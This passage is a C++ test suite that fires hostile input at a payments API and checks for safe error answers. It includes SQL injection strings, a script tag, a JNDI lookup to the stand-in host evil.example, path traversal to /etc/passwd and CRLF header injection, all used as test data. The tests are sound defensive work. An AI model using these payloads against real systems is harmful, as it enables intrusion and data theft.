// Hostile input against every route, over real HTTP and PostgreSQL (label db): malformed and
// truncated JSON, deep nesting, duplicate keys, out-of-range and non-integer amounts, invalid
// UTF-8, control characters, overlong strings and bodies, long and many headers, wrong content
// types, unknown fields, SQL- and script-like strings (stored and echoed verbatim), bad currencies,
// bad ids and query parameters, unsigned and forged webhooks; raw-socket cases for bytes libcurl
// would encode, and connection-level cases: requests whose framing is refused, answered in JSON
// and followed by a closed connection that parses nothing more (BadInputFraming), and request
// smuggling through a refused oversized body (BadInputConnection).
//
// Table-driven: every case states the exact status and error code API.md requires; where the
// server's answer was debatable, the answer a demanding payments API should give, with the reason
// in `because(...)` (printed on failure). No answer may be 5xx, every answer must be valid UTF-8
// JSON with an X-Request-Id, and the server must still serve /healthz and a normal POST after all
// of it (the zz_after_* cases, which run last). Each case runs on a fresh connection.
#include <arpa/inet.h>
#include <gtest/gtest.h>
#include <netinet/in.h>
#include <rapidjson/document.h>
#include <rapidjson/stringbuffer.h>
#include <rapidjson/writer.h>
#include <strings.h>
#include <sys/socket.h>
#include <sys/time.h>
#include <unistd.h>

#include <cctype>
#include <cerrno>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <ctime>
#include <functional>
#include <optional>
#include <ostream>
#include <pqxx/pqxx>
#include <set>
#include <string>
#include <string_view>
#include <thread>
#include <utility>
#include <vector>

#include "connectors/sandbox/sandbox_transformers.h"
#include "tests/support/api_harness.h"

namespace paymux::testing {
namespace {

constexpr int kBodyLimit = 256 * 1024;  // ApiHarness max_body_bytes: room for 100k '['
constexpr const char* kSandboxWebhookSecret = "whsec_sandbox_local";  // ApiHarness's sandbox-a

/// Ids created before the cases run; cases name them as {placeholders} in paths.
struct Fixtures {
  std::string key, other_key;
  std::string collection_id, payout_id, event_id, other_collection_id, other_event_id;
  std::string subscription_id, other_subscription_id;
};

struct Case;
using Check = std::function<void(const Case&, const http::HttpResult&)>;

enum class Sign { kNone, kValid, kStale, kOtherBody };

struct Case {
  std::string name;
  std::string method;
  std::string path;
  std::string body;
  long status = 0;
  std::string code;  // expected error.code; "" for a success answer
  std::optional<std::string> param;
  http::Headers headers;
  bool auth = true;  // Authorization: Bearer <tenant key>
  bool json = true;  // Content-Type: application/json unless headers set one
  Sign sign = Sign::kNone;
  std::string raw;  // when set: these exact bytes over a fresh socket instead of libcurl
  Check check;
  std::string why;  // for debatable expectations: the reason, shown on failure

  Case& withParam(std::string p) {
    param = std::move(p);
    return *this;
  }
  Case& header(std::string k, std::string v) {
    headers.emplace_back(std::move(k), std::move(v));
    return *this;
  }
  Case& noAuth() {
    auth = false;
    return *this;
  }
  Case& noJson() {
    json = false;
    return *this;
  }
  Case& signedAs(Sign s) {
    sign = s;
    return *this;
  }
  Case& then(Check c) {
    check = std::move(c);
    return *this;
  }
  Case& because(std::string w) {
    why = std::move(w);
    return *this;
  }
};

void PrintTo(const Case& c, std::ostream* os) {  // NOLINT(readability-identifier-naming): gtest
  std::string shown;
  for (unsigned char ch : c.path.substr(0, 60)) {
    if (ch >= 0x20 && ch < 0x7f) {
      shown += static_cast<char>(ch);
    } else {
      static const char* hex = "0123456789abcdef";
      shown += std::string("\\x") + hex[ch >> 4] + hex[ch & 15];
    }
  }
  *os << c.method << " " << shown;
}

// ---- request builders ---------------------------------------------------------------------

using Fields = std::vector<std::pair<std::string, std::string>>;  // key (raw) -> raw JSON value

std::string object(const Fields& fields) {
  std::string out = "{";
  for (const auto& [k, v] : fields) {
    if (out.size() > 1) out += ",";
    out += "\"" + k + "\":" + v;
  }
  return out + "}";
}

/// `base` with `key` replaced (or appended), or removed when value is kRemove.
const std::string kRemove = "\x01remove";
std::string with(Fields base, const std::string& key, const std::string& value) {
  bool found = false;
  for (auto it = base.begin(); it != base.end(); ++it) {
    if (it->first != key) continue;
    found = true;
    if (value == kRemove) {
      base.erase(it);
    } else {
      it->second = value;
    }
    break;
  }
  if (!found && value != kRemove) base.emplace_back(key, value);
  return object(base);
}

const Fields kCollection = {{"amount", "1000"},
                            {"currency", "\"EUR\""},
                            {"reference", "\"bad-input\""},
                            {"payment_method", R"({"type":"card","token":"tok_success"})"}};
const Fields kPayout = {
    {"amount", "2500"},
    {"currency", "\"EUR\""},
    {"reference", "\"bad-input-payout\""},
    {"beneficiary", R"({"type":"bank_account","name":"Ada","iban":"GB33BUKB20201555555555"})"}};

std::string col(const std::string& key, const std::string& value) {
  return with(kCollection, key, value);
}
std::string pay(const std::string& key, const std::string& value) {
  return with(kPayout, key, value);
}
std::string validCollection() { return object(kCollection); }

/// A JSON string literal for any bytes (RapidJSON escapes quotes, backslashes and controls).
std::string jstr(const std::string& s) {
  rapidjson::StringBuffer sb;
  rapidjson::Writer<rapidjson::StringBuffer> w(sb);
  w.String(s.data(), static_cast<rapidjson::SizeType>(s.size()));
  return std::string(sb.GetString(), sb.GetSize());
}

std::string urlEncode(const std::string& s) {
  static const char* hex = "0123456789ABCDEF";
  std::string out;
  for (unsigned char c : s) {
    if (std::isalnum(c) || c == '-' || c == '_' || c == '.' || c == '~') {
      out += static_cast<char>(c);
    } else {
      out += '%';
      out += hex[c >> 4];
      out += hex[c & 15];
    }
  }
  return out;
}

std::string repeat(const std::string& s, size_t n) {
  std::string out;
  out.reserve(s.size() * n);
  for (size_t i = 0; i < n; ++i) out += s;
  return out;
}

Case post(std::string name, std::string path, std::string body, long status, std::string code) {
  Case c;
  c.name = std::move(name);
  c.method = "POST";
  c.path = std::move(path);
  c.body = std::move(body);
  c.status = status;
  c.code = std::move(code);
  return c;
}
Case request(std::string name, std::string method, std::string path, long status,
             std::string code) {
  Case c = post(std::move(name), std::move(path), "", status, std::move(code));
  c.method = std::move(method);
  c.json = false;
  return c;
}
Case get(std::string name, std::string path, long status, std::string code) {
  return request(std::move(name), "GET", std::move(path), status, std::move(code));
}
/// Exact bytes on a fresh connection; `request` is everything before the final blank line.
Case raw(std::string name, const std::string& request, long status, std::string code) {
  Case c = post(std::move(name), "", "", status, std::move(code));
  c.method = request.substr(0, request.find(' '));
  size_t start = request.find(' ') + 1;
  c.path = request.substr(start, request.find(' ', start) - start);
  c.raw = request + "\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n";
  return c;
}

Case invalid(std::string name, std::string path, std::string body, std::string code,
             std::string param) {
  return post(std::move(name), std::move(path), std::move(body), 400, std::move(code))
      .withParam(std::move(param));
}

// ---- the shared server --------------------------------------------------------------------

ApiHarness* harness = nullptr;
Fixtures fx;

rapidjson::Document parseStrict(const std::string& body) {
  rapidjson::Document d;
  d.Parse<rapidjson::kParseValidateEncodingFlag>(body.c_str(), body.size());
  return d;
}

std::string expand(std::string s) {
  const std::pair<const char*, const std::string*> names[] = {
      {"{collection_id}", &fx.collection_id},
      {"{payout_id}", &fx.payout_id},
      {"{event_id}", &fx.event_id},
      {"{other_collection_id}", &fx.other_collection_id},
      {"{other_event_id}", &fx.other_event_id},
      {"{subscription_id}", &fx.subscription_id},
      {"{other_subscription_id}", &fx.other_subscription_id},
      {"{key}", &fx.key}};
  for (const auto& [name, value] : names) {
    for (size_t pos; (pos = s.find(name)) != std::string::npos;)
      s.replace(pos, strlen(name), *value);
  }
  return s;
}

/// A client connection to the harness's server that sends and reads raw bytes (for what libcurl
/// will not send, such as raw non-ASCII bytes in a path or a broken request line).
class RawConnection {
 public:
  explicit RawConnection(int timeout_s = 10) {
    std::string base = harness->baseUrl();
    fd_ = ::socket(AF_INET, SOCK_STREAM, 0);
    timeval tv{timeout_s, 0};
    ::setsockopt(fd_, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof tv);
    sockaddr_in addr{};
    addr.sin_family = AF_INET;
    addr.sin_port = htons(static_cast<uint16_t>(std::stoi(base.substr(base.rfind(':') + 1))));
    addr.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    connected_ = fd_ >= 0 && ::connect(fd_, reinterpret_cast<sockaddr*>(&addr), sizeof addr) == 0;
  }
  ~RawConnection() {
    if (fd_ >= 0) ::close(fd_);
  }
  RawConnection(const RawConnection&) = delete;
  RawConnection& operator=(const RawConnection&) = delete;

  bool connected() const { return connected_; }

  /// False when the server stopped accepting bytes (it shut the connection).
  bool send(std::string_view bytes) {
    for (size_t sent = 0; sent < bytes.size();) {
      ssize_t n = ::send(fd_, bytes.data() + sent, bytes.size() - sent, MSG_NOSIGNAL);
      if (n <= 0) return false;
      sent += static_cast<size_t>(n);
    }
    return true;
  }

  /// The next answer's bytes: its head and a Content-Length body (without one, everything until
  /// the server closes). Shorter when the connection ends or times out first.
  std::string readAnswer() {
    for (;;) {
      size_t end = pending_.find("\r\n\r\n");
      if (end != std::string::npos) {
        std::string lower = pending_.substr(0, end);
        for (char& ch : lower) ch = static_cast<char>(std::tolower(static_cast<unsigned char>(ch)));
        size_t cl = lower.find("\r\ncontent-length:");
        if (cl != std::string::npos) {
          size_t size = end + 4 + std::stoul(lower.substr(cl + 17));
          if (pending_.size() >= size) {
            std::string answer = pending_.substr(0, size);
            pending_.erase(0, size);
            return answer;
          }
        }
      }
      if (readMore() <= 0) return std::exchange(pending_, "");
    }
  }

  /// Reads until the server closes the connection; false when it is still open at the timeout.
  /// `rest` receives everything read.
  bool readUntilClosed(std::string* rest) {
    ssize_t n;
    while ((n = readMore()) > 0) {
    }
    *rest = std::exchange(pending_, "");
    return n == 0 || (n < 0 && errno == ECONNRESET);
  }

 private:
  ssize_t readMore() {
    char buf[8192];
    ssize_t n = ::recv(fd_, buf, sizeof buf, 0);
    if (n > 0) pending_.append(buf, static_cast<size_t>(n));
    return n;
  }

  int fd_ = -1;
  bool connected_ = false;
  std::string pending_;
};

/// An answer's bytes as an HttpResult (lower-case header names).
http::HttpResult parseAnswer(const std::string& in) {
  http::HttpResult out;
  size_t end = in.find("\r\n\r\n");
  if (in.rfind("HTTP/1.", 0) != 0 || end == std::string::npos) {
    out.error = http::TransportError::kOther;
    out.error_message = "no HTTP answer: " + in.substr(0, 80);
    return out;
  }
  out.response.status = std::stol(in.substr(9, 3));
  size_t line = in.find("\r\n");
  while (line < end) {
    size_t next = in.find("\r\n", line + 2);
    std::string h = in.substr(line + 2, next - line - 2);
    size_t colon = h.find(':');
    if (colon != std::string::npos) {
      std::string name = h.substr(0, colon);
      for (char& ch : name) ch = static_cast<char>(std::tolower(static_cast<unsigned char>(ch)));
      size_t v = h.find_first_not_of(' ', colon + 1);
      out.response.headers.emplace_back(name, v == std::string::npos ? "" : h.substr(v));
    }
    line = next;
  }
  out.response.body = in.substr(end + 4);
  return out;
}

/// One request as raw bytes on a new connection; the answer is read until the server closes or
/// its Content-Length is complete.
http::HttpResult sendRaw(const std::string& bytes) {
  RawConnection conn;
  if (!conn.connected()) {
    http::HttpResult out;
    out.error = http::TransportError::kOther;
    out.error_message = "connect";
    return out;
  }
  conn.send(bytes);
  return parseAnswer(conn.readAnswer());
}

http::HttpResult send(const Case& c) {
  if (!c.raw.empty()) return sendRaw(expand(c.raw));
  http::Headers headers;
  bool has_type = false;
  for (const auto& [k, v] : c.headers) {
    headers.emplace_back(k, expand(v));
    has_type |= strcasecmp(k.c_str(), "content-type") == 0;
  }
  if (c.json && !has_type) headers.emplace_back("Content-Type", "application/json");
  // why: without it, libcurl adds Content-Type: application/x-www-form-urlencoded to a POST.
  if (!c.json && !has_type) headers.emplace_back("Content-Type", "");
  if (c.auth) headers.emplace_back("Authorization", "Bearer " + fx.key);
  // why: each case on its own connection, so one case's damage cannot leak into the next
  // (BadInputConnection tests what a reused connection sees).
  headers.emplace_back("Connection", "close");
  if (c.sign != Sign::kNone) {
    int64_t t = static_cast<int64_t>(std::time(nullptr)) - (c.sign == Sign::kStale ? 3600 : 0);
    std::string signed_body = c.sign == Sign::kOtherBody ? c.body + " " : c.body;
    headers.emplace_back("Sandbox-Signature", connectors::sandbox::signatureHeader(
                                                  kSandboxWebhookSecret, t, signed_body));
  }
  // why a thread per case: libcurl caches connections per thread (CurlExecutor), and a
  // connection a hostile case left half-read must not carry over into the next case.
  http::HttpResult result;
  std::thread client(
      [&] { result = harness->call(c.method, expand(c.path), c.body, "", "", headers); });
  client.join();
  return result;
}

std::string errorType(const std::string& code) {
  if (code == "authentication_required" || code == "api_key_invalid" ||
      code == "signature_invalid") {
    return "authentication_error";
  }
  if (code.rfind("idempotency_", 0) == 0) return "idempotency_error";
  if (code == "no_route") return "routing_error";
  return "invalid_request_error";
}

// ---- extra checks -------------------------------------------------------------------------

/// The hostile string came back byte for byte in reference, description and metadata, from the
/// create answer, a GET and a list filtered by reference: stored as data, never interpreted.
Check storedVerbatim(std::string value) {
  return [value](const Case&, const http::HttpResult& r) {
    auto d = parseStrict(r.response.body);
    ASSERT_TRUE(d.IsObject() && d.HasMember("id")) << r.response.body;
    auto same = [&](const rapidjson::Value& tx) {
      EXPECT_EQ(std::string(tx["reference"].GetString(), tx["reference"].GetStringLength()), value);
      EXPECT_EQ(std::string(tx["description"].GetString(), tx["description"].GetStringLength()),
                value);
      EXPECT_EQ(
          std::string(tx["metadata"]["note"].GetString(), tx["metadata"]["note"].GetStringLength()),
          value);
    };
    same(d);
    std::string id = d["id"].GetString();
    auto got = harness->call("GET", "/v1/collections/" + id, "", fx.key);
    ASSERT_EQ(got.response.status, 200) << got.response.body;
    auto g = parseStrict(got.response.body);
    ASSERT_TRUE(g.IsObject()) << got.response.body;
    same(g);
    auto list =
        harness->call("GET", "/v1/collections?limit=5&reference=" + urlEncode(value), "", fx.key);
    ASSERT_EQ(list.response.status, 200) << list.response.body;
    auto l = parseStrict(list.response.body);
    ASSERT_TRUE(l.IsObject() && l["data"].IsArray() && l["data"].Size() >= 1) << list.response.body;
    EXPECT_EQ(std::string(l["data"][0]["id"].GetString()), id);
  };
}

Check requestIdGenerated() {
  return [](const Case&, const http::HttpResult& r) {
    EXPECT_EQ(r.response.header("x-request-id").rfind("req_", 0), 0u)
        << "an unacceptable X-Request-Id must be replaced, got "
        << r.response.header("x-request-id");
  };
}

Check allowHeader(std::string allowed) {
  return [allowed](const Case&, const http::HttpResult& r) {
    EXPECT_EQ(r.response.header("allow"), allowed);
  };
}

Check metricsAreClean() {
  return [](const Case&, const http::HttpResult& r) {
    // Route labels are templates: nothing a client sent may become a label value.
    for (const char* injected : {"<script", "DROP", "passwd", "\xff", "col_doesnotexist", "FOO"}) {
      EXPECT_EQ(r.response.body.find(injected), std::string::npos)
          << "metrics contain " << injected;
    }
    EXPECT_EQ(r.response.header("content-type").rfind("text/plain", 0), 0u);
  };
}

// ---- the cases ----------------------------------------------------------------------------

std::vector<Case> collectionCases() {
  const std::string coll = "/v1/collections";
  std::vector<Case> v;
  auto json_invalid = [&](std::string name, std::string body) {
    v.push_back(post(std::move(name), coll, std::move(body), 400, "json_invalid"));
  };
  // Malformed and truncated JSON.
  json_invalid("empty_body", "");
  json_invalid("whitespace_body", "  \r\n\t ");
  json_invalid("lone_brace", "{");
  json_invalid("truncated_after_value", R"({"amount":1000)");
  json_invalid("truncated_after_comma", R"({"amount":1000,)");
  json_invalid("truncated_in_string", R"({"amount":1000,"currency":"EU)");
  json_invalid("truncated_in_key", R"({"amount":1000,"curr)");
  json_invalid("truncated_in_escape", R"({"reference":"\u00)");
  json_invalid("truncated_half_body", validCollection().substr(0, validCollection().size() / 2));
  json_invalid("trailing_comma", R"({"amount":1000,"currency":"EUR",})");
  json_invalid("trailing_garbage", validCollection() + "x");
  json_invalid("two_documents", validCollection() + validCollection());
  json_invalid("single_quotes", "{'amount':1000}");
  json_invalid("unquoted_keys", "{amount:1000}");
  json_invalid("nan_amount", col("amount", "NaN"));
  json_invalid("infinity_amount", col("amount", "Infinity"));
  json_invalid("comment", "/* hi */" + validCollection());
  json_invalid("top_level_array", "[" + validCollection() + "]");
  json_invalid("top_level_string", "\"amount\"");
  json_invalid("top_level_number", "1000");
  json_invalid("top_level_null", "null");
  v.push_back(post("utf8_bom_ignored", coll, "\xEF\xBB\xBF" + validCollection(), 201, "")
                  .because("RFC 8259 section 8.1: a parser MAY ignore a byte order mark"));
  json_invalid("hex_amount", col("amount", "0x10"));
  json_invalid("leading_zero_amount", col("amount", "01000"));
  json_invalid("plus_amount", col("amount", "+1000"));
  json_invalid("amount_1e400_overflows_double", col("amount", "1E400"));
  json_invalid("amount_10000_digits", col("amount", std::string(10000, '9')));
  json_invalid("unclosed_100k_brackets", std::string(100000, '['));
  json_invalid("closed_100k_brackets", std::string(100000, '[') + std::string(100000, ']'));
  json_invalid("unclosed_deep_objects", repeat("{\"a\":", 40000));
  // Invalid UTF-8 and control characters inside strings.
  json_invalid("invalid_utf8_ff", col("reference", "\"\xff\xfe\""));
  json_invalid("invalid_utf8_overlong_slash", col("reference", "\"\xc0\xaf\""));
  json_invalid("invalid_utf8_truncated_sequence", col("reference", "\"abc\xe2\x82\""));
  json_invalid("invalid_utf8_cesu_surrogate", col("reference", "\"\xed\xa0\x80\""));
  json_invalid("invalid_utf8_above_10ffff", col("reference", "\"\xf4\x90\x80\x80\""));
  json_invalid("invalid_utf8_in_key", col("ref\xff", "\"x\""));
  json_invalid("lone_high_surrogate_escape", col("reference", R"("\ud800")"));
  v.push_back(
      post("lone_low_surrogate_escape", coll, col("reference", R"("\udc00x")"), 400, "json_invalid")
          .because("RapidJSON 1.1 decodes a lone low surrogate to bytes that are not UTF-8 "
                   "(PostgreSQL then refuses them: a 500); I-JSON forbids lone surrogates"));
  v.push_back(
      post("lone_low_surrogate_in_unknown_key", coll, col(R"(\udc00)", "1"), 400, "json_invalid")
          .because("the parameter_unknown message would quote a key that is not UTF-8, so the "
                   "error body itself would not be valid JSON (found by fuzz_request)"));
  json_invalid("raw_control_char_in_string", col("reference", "\"a\x01z\""));
  json_invalid("raw_newline_in_string", col("reference", "\"a\nz\""));
  json_invalid("raw_nul_in_string", col("reference", std::string("\"a\0z\"", 5)));
  json_invalid("bad_escape", col("reference", R"("\x41")"));
  v.push_back(post("raw_nul_after_document", coll,
                   validCollection() + std::string(1, '\0') + "junk", 400, "json_invalid")
                  .because("a raw NUL is never valid JSON; RapidJSON stops reading at it, so the "
                           "bytes after it are silently ignored today"));
  // Duplicate keys: ambiguous (parsers disagree on which wins), so not I-JSON (RFC 7493).
  v.push_back(post("duplicate_amount_key", coll, validCollection().insert(1, "\"amount\":1,"), 400,
                   "json_invalid")
                  .because("duplicate keys are ambiguous: another parser in front of paymux may "
                           "read the other value (RFC 7493 forbids them)"));
  v.push_back(post("duplicate_nested_type_key", coll,
                   col("payment_method", R"({"type":"card","token":"t","type":"paypal"})"), 400,
                   "json_invalid")
                  .because("duplicate keys are ambiguous (RFC 7493)"));
  v.push_back(post("duplicate_metadata_key", coll, col("metadata", R"({"k":"a","k":"b"})"), 400,
                   "json_invalid")
                  .because("duplicate keys are ambiguous (RFC 7493)"));

  // amount: integer minor units, 1 <= amount <= 10^12.
  auto bad_amount = [&](std::string name, std::string value) {
    v.push_back(
        invalid(std::move(name), coll, col("amount", value), "parameter_invalid", "amount"));
  };
  bad_amount("amount_zero", "0");
  bad_amount("amount_negative_zero", "-0");
  bad_amount("amount_negative", "-1");
  bad_amount("amount_int64_min", "-9223372036854775808");
  bad_amount("amount_int64_max", "9223372036854775807");
  bad_amount("amount_2_pow_63", "9223372036854775808");
  bad_amount("amount_2_pow_64", "18446744073709551616");
  bad_amount("amount_2_pow_64_minus_1", "18446744073709551615");
  bad_amount("amount_above_10_pow_12", "1000000000001");
  bad_amount("amount_float", "10.5");
  bad_amount("amount_float_integral", "1000.0");
  bad_amount("amount_exponent", "1e3");
  bad_amount("amount_tiny_float", "1e-400");
  bad_amount("amount_string", "\"1000\"");
  bad_amount("amount_null", "null");
  bad_amount("amount_bool", "true");
  bad_amount("amount_array", "[1000]");
  bad_amount("amount_object", R"({"value":1000})");
  // Nesting is refused before parsing (RapidJSON recurses per level): the body is not JSON we read.
  v.push_back(post("amount_50k_nested_arrays", coll,
                   col("amount", std::string(50000, '[') + std::string(50000, ']')), 400,
                   "json_invalid"));
  v.push_back(
      invalid("amount_missing", coll, col("amount", kRemove), "parameter_missing", "amount"));

  // currency: ISO 4217 alpha-3, upper case, known to paymux.
  auto bad_currency = [&](std::string name, std::string value) {
    v.push_back(
        invalid(std::move(name), coll, col("currency", value), "parameter_invalid", "currency"));
  };
  bad_currency("currency_lower_case", "\"eur\"");
  bad_currency("currency_mixed_case", "\"Eur\"");
  bad_currency("currency_unknown", "\"XYZ\"");
  bad_currency("currency_withdrawn_hrk", "\"HRK\"");
  bad_currency("currency_no_minor_unit_xau", "\"XAU\"");
  bad_currency("currency_four_letters", "\"EURO\"");
  bad_currency("currency_empty", "\"\"");
  bad_currency("currency_numeric_code", "978");
  bad_currency("currency_cyrillic_e", "\"\xd0\x95UR\"");
  bad_currency("currency_trailing_space", "\"EUR \"");
  bad_currency("currency_escaped_nul_suffix", R"("EUR\u0000")");
  bad_currency("currency_sql", R"("EUR'; DROP TABLE transactions; --")");
  v.push_back(
      invalid("currency_missing", coll, col("currency", kRemove), "parameter_missing", "currency"));
  v.push_back(post("currency_without_route", coll, col("currency", "\"JPY\""), 422, "no_route"));

  // reference: 1-128 characters (code points, not bytes).
  auto bad_reference = [&](std::string name, std::string value) {
    v.push_back(
        invalid(std::move(name), coll, col("reference", value), "parameter_invalid", "reference"));
  };
  bad_reference("reference_empty", "\"\"");
  bad_reference("reference_129_chars", jstr(std::string(129, 'r')));
  bad_reference("reference_129_two_byte_chars", jstr(repeat("\xc3\xa9", 129)));
  bad_reference("reference_1000_emoji", jstr(repeat("\xf0\x9f\x92\xb3", 1000)));
  bad_reference("reference_60k_chars", jstr(std::string(60000, 'r')));
  bad_reference("reference_number", "42");
  bad_reference("reference_object", "{}");
  v.push_back(invalid("reference_escaped_nul", coll, col("reference", R"("order\u000042")"),
                      "parameter_invalid", "reference")
                  .because("PostgreSQL text cannot hold U+0000: it must be a 400, never a 500 or "
                           "a silently truncated reference"));
  v.push_back(invalid("reference_missing", coll, col("reference", kRemove), "parameter_missing",
                      "reference"));
  v.push_back(post("reference_128_two_byte_chars_fit", coll,
                   col("reference", jstr(repeat("\xc3\xa9", 128))), 201, ""));

  // Hostile strings are data: stored and echoed byte for byte.
  const std::pair<const char*, std::string> hostile[] = {
      {"sql_drop_table", "'; DROP TABLE transactions; --"},
      {"sql_or_true", "\" OR 1=1 --"},
      {"sql_union", "x' UNION SELECT key_hash FROM api_keys --"},
      {"script_tag", "<script>alert(1)</script>"},
      {"html_entities", "&lt;b&gt; & \" ' </title>"},
      {"jndi_lookup", "${jndi:ldap://evil.example/a}"},
      {"format_string", "%s%n%x%p%99999999d"},
      {"path_traversal", "../../../../etc/passwd"},
      {"crlf_header_injection", "x\r\nSet-Cookie: a=b\r\n\r\n"},
      {"escaped_controls", std::string("\x01\x07\x1b[31m\x7f", 8)},
      {"bidi_and_zero_width",
       "\xe2\x80\xae\xe2\x80\x8b"
       "abc"},
      {"emoji_and_astral", "\xf0\x9f\x92\xb3\xf0\x9f\x98\x80\xf0\x90\x80\x80"},
      {"backslashes_and_quotes", "\\\"\\\\\"'`"},
      {"json_in_string", R"({"amount":1,"status":"succeeded"})"},
      {"null_word", "null"},
  };
  for (const auto& [name, value] : hostile) {
    Fields f = kCollection;
    f[2].second = jstr(value);
    f.emplace_back("description", jstr(value));
    f.emplace_back("metadata", "{\"note\":" + jstr(value) + "}");
    v.push_back(post(std::string("verbatim_") + name, coll, object(f), 201, "")
                    .then(storedVerbatim(value)));
  }

  // Unknown fields, including attempts to set server-owned fields.
  auto unknown = [&](std::string name, std::string body, std::string param) {
    v.push_back(
        invalid(std::move(name), coll, std::move(body), "parameter_unknown", std::move(param)));
  };
  unknown("unknown_field", col("colour", "\"red\""), "colour");
  unknown("unknown_status_mass_assignment", col("status", "\"succeeded\""), "status");
  unknown("unknown_id_mass_assignment", col("id", "\"col_mine\""), "id");
  unknown("unknown_tenant_id", col("tenant_id", "\"ten_other\""), "tenant_id");
  unknown("unknown_proto", col("__proto__", R"({"admin":true})"), "__proto__");
  unknown("unknown_dotted_key", col("a.b", "1"), "a.b");
  unknown("unknown_slash_key", col("a/b", "1"), "a/b");
  unknown("unknown_tilde_key", col("a~b", "1"), "a~b");
  v.push_back(invalid("unknown_numeric_key", coll, col("5", "1"), "parameter_unknown", "5")
                  .because("param names the field as sent; a numeric key is not an array index"));
  unknown("unknown_payment_method_field",
          col("payment_method", R"({"type":"card","token":"t","cvc":"123"})"),
          "payment_method.cvc");
  unknown("unknown_customer_field", col("customer", R"({"ssn":"078-05-1120"})"), "customer.ssn");
  unknown("unknown_field_100k_name", col(std::string(100000, 'k'), "1"), std::string(100000, 'k'));

  // payment_method.
  v.push_back(invalid("payment_method_missing", coll, col("payment_method", kRemove),
                      "parameter_missing", "payment_method"));
  v.push_back(invalid("payment_method_string", coll, col("payment_method", "\"card\""),
                      "parameter_invalid", "payment_method"));
  v.push_back(invalid("payment_method_array", coll, col("payment_method", "[]"),
                      "parameter_invalid", "payment_method"));
  v.push_back(invalid("payment_method_type_unknown", coll,
                      col("payment_method", R"({"type":"bitcoin"})"), "parameter_invalid",
                      "payment_method.type"));
  v.push_back(invalid("payment_method_type_upper", coll,
                      col("payment_method", R"({"type":"CARD","token":"t"})"), "parameter_invalid",
                      "payment_method.type"));
  v.push_back(invalid("payment_method_type_null", coll, col("payment_method", R"({"type":null})"),
                      "parameter_invalid", "payment_method.type"));
  v.push_back(invalid("payment_method_type_missing", coll,
                      col("payment_method", R"({"token":"t"})"), "parameter_missing",
                      "payment_method.type"));
  v.push_back(invalid("card_without_token", coll, col("payment_method", R"({"type":"card"})"),
                      "parameter_missing", "payment_method.token")
                  .because("API.md: the first failing field in param; the field is the token"));
  v.push_back(invalid("sepa_debit_without_mandate", coll,
                      col("payment_method", R"({"type":"sepa_debit"})"), "parameter_missing",
                      "payment_method.mandate")
                  .because("API.md: the first failing field in param; the field is the mandate"));
  v.push_back(invalid("token_empty", coll, col("payment_method", R"({"type":"card","token":""})"),
                      "parameter_invalid", "payment_method.token"));
  v.push_back(
      invalid("token_256_chars", coll,
              col("payment_method", R"({"type":"card","token":")" + std::string(256, 't') + "\"}"),
              "parameter_invalid", "payment_method.token"));
  v.push_back(invalid("payment_method_email_invalid", coll,
                      col("payment_method", R"({"type":"paypal","email":"not-an-email"})"),
                      "parameter_invalid", "payment_method.email"));

  // customer.
  auto bad_customer = [&](std::string name, std::string value, std::string param) {
    v.push_back(invalid(std::move(name), coll, col("customer", value), "parameter_invalid",
                        std::move(param)));
  };
  bad_customer("customer_string", "\"cus_1\"", "customer");
  bad_customer("customer_country_lower", R"({"country":"de"})", "customer.country");
  bad_customer("customer_country_alpha3", R"({"country":"DEU"})", "customer.country");
  bad_customer("customer_country_escaped_nul", R"({"country":"DE\u0000"})", "customer.country");
  bad_customer("customer_email_no_tld", R"({"email":"a@b"})", "customer.email");
  bad_customer("customer_email_spaces", R"({"email":"a b@c.de"})", "customer.email");
  bad_customer("customer_name_empty", R"({"name":""})", "customer.name");
  bad_customer("customer_id_256_chars", "{\"id\":\"" + std::string(256, 'c') + "\"}",
               "customer.id");

  // metadata: at most 50 keys of at most 40 characters, string values of at most 500.
  std::string fifty_one = "{";
  for (int i = 0; i < 51; ++i) fifty_one += (i ? ",\"k" : "\"k") + std::to_string(i) + "\":\"v\"";
  fifty_one += "}";
  v.push_back(invalid("metadata_51_keys", coll, col("metadata", fifty_one), "parameter_invalid",
                      "metadata"));
  v.push_back(invalid("metadata_key_41_chars", coll,
                      col("metadata", "{\"" + std::string(41, 'k') + "\":\"v\"}"),
                      "parameter_invalid", "metadata"));
  v.push_back(invalid("metadata_key_empty", coll, col("metadata", R"({"":"v"})"),
                      "parameter_invalid", "metadata"));
  v.push_back(invalid("metadata_value_501_chars", coll,
                      col("metadata", "{\"k\":" + jstr(std::string(501, 'v')) + "}"),
                      "parameter_invalid", "metadata.k"));
  v.push_back(invalid("metadata_value_number", coll, col("metadata", R"({"k":1})"),
                      "parameter_invalid", "metadata.k"));
  v.push_back(invalid("metadata_value_object", coll, col("metadata", R"({"k":{"a":"b"}})"),
                      "parameter_invalid", "metadata.k"));
  v.push_back(invalid("metadata_value_null", coll, col("metadata", R"({"k":null})"),
                      "parameter_invalid", "metadata.k"));
  v.push_back(invalid("metadata_array", coll, col("metadata", R"(["a"])"), "parameter_invalid",
                      "metadata"));
  v.push_back(
      invalid("metadata_null", coll, col("metadata", "null"), "parameter_invalid", "metadata"));
  v.push_back(invalid("metadata_value_escaped_nul", coll, col("metadata", R"({"k":"a\u0000b"})"),
                      "parameter_invalid", "metadata.k")
                  .because("PostgreSQL jsonb rejects \\u0000: a 400, never a 500"));
  v.push_back(invalid("metadata_key_escaped_nul", coll, col("metadata", R"({"a\u0000b":"v"})"),
                      "parameter_invalid", "metadata")
                  .because("PostgreSQL jsonb rejects \\u0000: a 400, never a 500"));
  v.push_back(post("metadata_sql_key_stored", coll,
                   col("metadata", R"({"'; DROP TABLE x; --":"<b>"})"), 201, "")
                  .then([](const Case&, const http::HttpResult& r) {
                    auto d = parseStrict(r.response.body);
                    ASSERT_TRUE(d.IsObject()) << r.response.body;
                    EXPECT_STREQ(d["metadata"]["'; DROP TABLE x; --"].GetString(), "<b>");
                  }));

  // description, connector.
  v.push_back(invalid("description_1001_chars", coll,
                      col("description", jstr(std::string(1001, 'd'))), "parameter_invalid",
                      "description"));
  v.push_back(invalid("description_escaped_nul", coll, col("description", R"("a\u0000")"),
                      "parameter_invalid", "description")
                  .because("PostgreSQL text cannot hold U+0000"));
  v.push_back(invalid("description_array", coll, col("description", "[]"), "parameter_invalid",
                      "description"));
  v.push_back(invalid("connector_unknown", coll, col("connector", "\"nope\""), "parameter_invalid",
                      "connector"));
  v.push_back(
